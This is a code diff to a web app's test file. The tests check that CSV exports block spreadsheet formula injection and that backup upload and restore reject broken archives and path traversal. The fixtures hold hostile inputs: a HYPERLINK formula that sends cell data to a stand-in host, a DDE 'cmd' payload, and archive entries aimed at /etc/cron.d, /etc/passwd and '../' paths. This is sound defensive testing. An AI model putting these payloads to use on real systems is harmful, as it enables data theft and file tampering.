@@ -3,9 +3,10 @@ import { join } from 'node:path'
 import { gunzipSync, gzipSync } from 'node:zlib'
 import { pack } from 'tar-stream'
 import { expect, test } from 'vitest'
-import { readFlash } from '../src/core/flash.ts'
-import { auditLog, users } from '../src/db/accounts-schema.ts'
-import { newsletterSubscribers } from '../src/db/schema.ts'
+import { readFlash } from '../src/core/forms/flash.ts'
+import { auditLog } from '../src/db/schema/audit.ts'
+import { users } from '../src/db/schema/accounts.ts'
+import { newsletterSubscribers } from '../src/db/schema/newsletter.ts'
 import { writeBackup } from '../src/operations/backup/write-backup.ts'
 import { createUser } from './accounts.ts'
 import { contentsOf } from './database-contents.ts'
@@ -16,7 +17,7 @@ const { app, send, logged } = await createWholeSite()
 const admin = await createUser(app, 'admin')
 const { cookie } = admin
 
-/** What a spreadsheet would run, or take for the end of a cell. */
+/** Values a spreadsheet would run as a formula or read as the end of a cell. */
 const formulas = [
   '=HYPERLINK("https://evil.test?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -34,13 +35,13 @@ const formulas = [
   '＝1+1',
 ]
 
-/** The cells of a file as spreadsheets read it (RFC 4180). */
+/** Parses a file's cells like a spreadsheet (RFC 4180). */
 function cellsOf(csv: string): Array<string> {
   const cells = csv.replace(/^\u{FEFF}/u, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/g)
   return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
 }
 
-test('no cell of the audit log is a formula, and every name is whole', async () => {
+test('exports the audit log without formulas and with complete names', async () => {
   for (const name of formulas) {
     const { user } = await createUser(app, 'cook', name)
     await app.db
@@ -54,11 +55,11 @@ test('no cell of the audit log is a formula, and every name is whole', async () 
   expect(cells.length % 7).toBe(0)
   expect(cells.filter((cell) => /^[\s\p{Cc}]*[=+\-@＝]/u.test(cell))).toEqual([])
   expect(formulas.filter((name) => !cells.some((cell) => cell === name || cell === `'${name}`))).toEqual([])
-  // Some spreadsheets end a cell at a semicolon or a tab outside quotes.
+  // Some spreadsheets split cells at a semicolon or tab outside quotes.
   expect(text).not.toMatch(/(?:^|[,\n])[^",\r\n]*[;\t]/m)
 })
 
-test('no address of a reader is a formula', async () => {
+test('exports the subscribers without formulas', async () => {
   const addresses = formulas.map((name, place) => `${name}@kitchen${place}.test`)
   await app.db.insert(newsletterSubscribers).values(addresses.map((email) => ({ email })))
   const cells = cellsOf(await (await send('/admin/newsletter/export', { cookie })).text())
@@ -82,14 +83,22 @@ async function archiveOf(header: Entry): Promise<Uint8Array> {
 }
 
 test.each([
-  ['cut in half', whole.slice(0, whole.length / 2), 'no whole backup'],
-  // Perhaps between two of its parts, where only the end is missing.
+  ['cut in half', whole.slice(0, whole.length / 2), 'not a complete backup'],
+  // This may cut between two parts, so that only the end is missing.
   ['cut in half and packed again', gzipSync(unpacked.subarray(0, unpacked.length / 2)), 'cut off'],
-  ['without its last byte', whole.slice(0, -1), 'no whole backup'],
-  ['with a path upward', await archiveOf({ name: '../../evil.webp' }), 'holds "../../evil.webp", which no backup has'],
-  ['with a path upward inside', await archiveOf({ name: 'pictures/../../x/original.webp' }), 'which no backup has'],
-  ['with an absolute path', await archiveOf({ name: '/etc/cron.d/evil' }), 'which no backup has'],
-  ['with a path of Windows', await archiveOf({ name: '..\\..\\evil.webp' }), 'which no backup has'],
+  ['without its last byte', whole.slice(0, -1), 'not a complete backup'],
+  [
+    'with a path upward',
+    await archiveOf({ name: '../../evil.webp' }),
+    'holds "../../evil.webp", which no backup contains',
+  ],
+  [
+    'with a path upward inside',
+    await archiveOf({ name: 'pictures/../../x/original.webp' }),
+    'which no backup contains',
+  ],
+  ['with an absolute path', await archiveOf({ name: '/etc/cron.d/evil' }), 'which no backup contains'],
+  ['with a path of Windows', await archiveOf({ name: '..\\..\\evil.webp' }), 'which no backup contains'],
   [
     'with a link',
     await archiveOf({ name: 'pictures/a/original.webp', type: 'symlink', linkname: '/etc/passwd' }),
@@ -101,20 +110,20 @@ test.each([
     'no',
   ],
   ['with a device', await archiveOf({ name: 'pictures/a/original.webp', type: 'character-device' }), 'no'],
-  ['that is a picture', new TextEncoder().encode('GIF89a'), 'no whole backup'],
-])('a backup %s is not taken: told why, nothing kept, logged', async (_, body, why) => {
+  ['that is a picture', new TextEncoder().encode('GIF89a'), 'not a complete backup'],
+])('refuses a backup %s with a reason, stores nothing and logs it', async (_, body, why) => {
   const before = await contentsOf(app.db)
   const answer = await send('/api/backups', { cookie, body: Uint8Array.from(body) })
   expect(answer.status).toBe(422)
   const { error } = (await answer.json()) as { error: string }
-  expect(error).toContain('The file was not taken.')
+  expect(error).toContain('The file was not saved.')
   expect(error).toContain(why)
   expect(await readdir(folder)).toEqual([])
   expect(await contentsOf(app.db)).toEqual(before)
   expect(logged().at(-1)).toMatchObject({ method: 'POST', path: '/api/backups', status: 422 })
 })
 
-test('whole, it is taken and restored; a name that leads elsewhere is none', async () => {
+test('restores a complete backup and refuses unsafe names', async () => {
   const names = ['../../../etc/passwd', '../made.backup', 'kitchen-2026-11-20-143000.backup/../../made.backup']
   for (const name of names) {
     expect((await send(`/api/backups/${encodeURIComponent(name)}`, { cookie })).status).toBe(404)
@@ -126,7 +135,7 @@ test('whole, it is taken and restored; a name that leads elsewhere is none', asy
   await app.db.update(users).set({ name: 'Changed since' })
   const back = await send('/admin/backup', { cookie, fields: { intent: 'restore', name } })
   expect(back.headers.get('location')).toBe('/auth')
-  // Everybody is signed out by it, so the next page says that it worked.
-  expect(readFlash(back.headers.get('set-cookie') ?? '')?.title).toBe('The backup is restored')
+  // Restoring signs everyone out, so the next page shows the message.
+  expect(readFlash(back.headers.get('set-cookie') ?? '')?.title).toBe('Backup restored')
   expect(JSON.stringify(await app.db.select({ name: users.name }).from(users))).not.toContain('Changed since')
 })
